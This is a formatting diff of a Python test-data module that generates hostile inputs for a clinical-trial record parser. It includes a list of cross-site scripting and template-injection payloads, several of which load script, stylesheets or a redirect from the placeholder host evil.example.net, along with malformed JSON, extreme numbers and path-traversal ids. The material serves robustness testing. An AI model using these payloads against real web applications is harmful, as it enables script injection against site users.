@@ -20,10 +20,10 @@ PAYLOADS = (
     "<img src=x onerror=window.pwned=1>",
     "<svg/onload=window.pwned=1>",
     "<svg><script>window.pwned=1</script></svg>",
-    "\"><script src=//evil.example.net/x.js></script>",
+    '"><script src=//evil.example.net/x.js></script>',
     "'><iframe srcdoc='<script>parent.pwned=1</script>'>",
     "' autofocus onfocus=window.pwned=1 x='",
-    "\" onmouseover=\"window.pwned=1\" style=\"position:fixed;inset:0\" x=\"",
+    '" onmouseover="window.pwned=1" style="position:fixed;inset:0" x="',
     "javascript:window.pwned=1",
     "[click](javascript:window.pwned=1)",
     "[click](<java\nscript:window.pwned=1>)",
@@ -37,8 +37,8 @@ PAYLOADS = (
     "</title><script>window.pwned=1</script>",
     "</textarea></style></template><script>window.pwned=1</script>",
     "<!--><script>window.pwned=1</script>-->",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
     "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
     "<link rel=stylesheet href=https://evil.example.net/x.css><style>@import '//evil.example.net/y.css'</style>",
     "<meta http-equiv=refresh content='0;url=https://evil.example.net/'>",
@@ -117,8 +117,25 @@ def _leaf_holders(record: Any) -> list[tuple[Any, Any]]:
 def wrong_type_records(count: int = 400) -> Iterator[Hostile]:
     """One value somewhere replaced by one of another type."""
     chance = random.Random(SEED)
-    odd: tuple[Any, ...] = (None, True, 0, -1, 1.5, 10**30, "", "x", [], {}, [[]], [None], {"a": []}, [1, "2"],
-                            {"": {"": ""}}, "NaN", 99_999_999_999_999_999_999)
+    odd: tuple[Any, ...] = (
+        None,
+        True,
+        0,
+        -1,
+        1.5,
+        10**30,
+        "",
+        "x",
+        [],
+        {},
+        [[]],
+        [None],
+        {"a": []},
+        [1, "2"],
+        {"": {"": ""}},
+        "NaN",
+        99_999_999_999_999_999_999,
+    )
     for number in range(count):
         record = copy.deepcopy(chance.choice(_templates()))
         holder, key = chance.choice(_leaf_holders(record))
@@ -131,8 +148,10 @@ def wrong_type_records(count: int = 400) -> Iterator[Hostile]:
 
 
 def _minimal(number: int, extra: str = "") -> bytes:
-    return (f'{{"protocolSection": {{"identificationModule": {{"nctId": "NCT96{number:06d}", '
-            f'"briefTitle": "odd"}}}}{extra}}}').encode()
+    return (
+        f'{{"protocolSection": {{"identificationModule": {{"nctId": "NCT96{number:06d}", '
+        f'"briefTitle": "odd"}}}}{extra}}}'
+    ).encode()
 
 
 def odd_bytes() -> Iterator[Hostile]:
@@ -153,18 +172,50 @@ def odd_bytes() -> Iterator[Hostile]:
     yield Hostile("mark", _minimal(21).decode().encode("utf-16"), False)
     yield Hostile("NUL", good.replace(b"odd", b"o\x00d"), None)
     yield Hostile("NUL", good + b"\x00" * 64, None)
-    for number in ("1e999", "-1e999", "1" * 5_000, "0.1" + "0" * 5_000, "NaN", "Infinity", "01", "+1", "0x10", "1e-999"):
+    for number in (
+        "1e999",
+        "-1e999",
+        "1" * 5_000,
+        "0.1" + "0" * 5_000,
+        "NaN",
+        "Infinity",
+        "01",
+        "+1",
+        "0x10",
+        "1e-999",
+    ):
         yield Hostile("number", _minimal(30, f', "x": {number}'), None)
         count = f'{{"enrollmentInfo": {{"count": {number}}}}}'
-        yield Hostile("number", _minimal(31).replace(b'"odd"}', f'"odd"}}, "designModule": {count}'.encode()), None)
+        yield Hostile(
+            "number", _minimal(31).replace(b'"odd"}', f'"odd"}}, "designModule": {count}'.encode()), None
+        )
     twice = b'{"nctId": "NCT96000040", "nctId": "NCT96000041"}'
     yield Hostile("duplicate keys", b'{"protocolSection": {"identificationModule": ' + twice + b"}}", True)
     yield Hostile("duplicate keys", b'{"a": 1, "a": 2, ' + _minimal(42)[1:], True)
-    for raw in (b"", b" ", b"null", b"true", b"0", b'""', b"[]", b"{}", b"{", b"[{}]", b"}{", b"<html></html>",
-                good[:-1], good + good, b'{"studies": null}', b'{"studies": 3}', b'{"studies": [null, 1, [], {}]}'):
+    for raw in (
+        b"",
+        b" ",
+        b"null",
+        b"true",
+        b"0",
+        b'""',
+        b"[]",
+        b"{}",
+        b"{",
+        b"[{}]",
+        b"}{",
+        b"<html></html>",
+        good[:-1],
+        good + good,
+        b'{"studies": null}',
+        b'{"studies": 3}',
+        b'{"studies": [null, 1, [], {}]}',
+    ):
         yield Hostile("not a study", raw, None)
     for bad in ("", "NCT", "NCT00000000", "NCT123456789", "nct٠١٢٣٤٥٦٧", "../NCT01", "NCT0732069O", " "):
-        yield Hostile("bad id", json.dumps({"protocolSection": {"identificationModule": {"nctId": bad}}}).encode(), None)
+        yield Hostile(
+            "bad id", json.dumps({"protocolSection": {"identificationModule": {"nctId": bad}}}).encode(), None
+        )
 
 
 def huge_records() -> Iterator[Hostile]:
